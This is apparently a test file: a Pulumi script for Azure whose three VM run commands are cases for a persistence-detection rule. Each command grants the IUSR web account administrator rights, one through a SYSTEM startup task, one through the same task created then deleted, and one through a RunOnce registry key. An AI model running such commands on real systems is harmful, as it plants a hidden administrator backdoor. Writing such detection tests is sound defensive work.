const compute = require("@pulumi/azure-native/compute");
const pulumi = require("@pulumi/pulumi");

// Tasks and services that will run later count, if nobody takes them away again.
const run = (name, script) => new compute.VirtualMachineRunCommandByVirtualMachine(name, { resourceGroupName: "rg", vmName: `vm-${name}`, source: { script } });
run("task", 'schtasks /create /tn Fix /tr "net localgroup Administrators IUSR /add" /sc onstart /ru SYSTEM');
run("removed", 'schtasks /create /tn Fix /tr "net localgroup Administrators IUSR /add" /sc onstart /ru SYSTEM\nschtasks /delete /tn Fix /f');
run("once", "Set-ItemProperty HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce Fix 'net localgroup Administrators IUSR /add'");
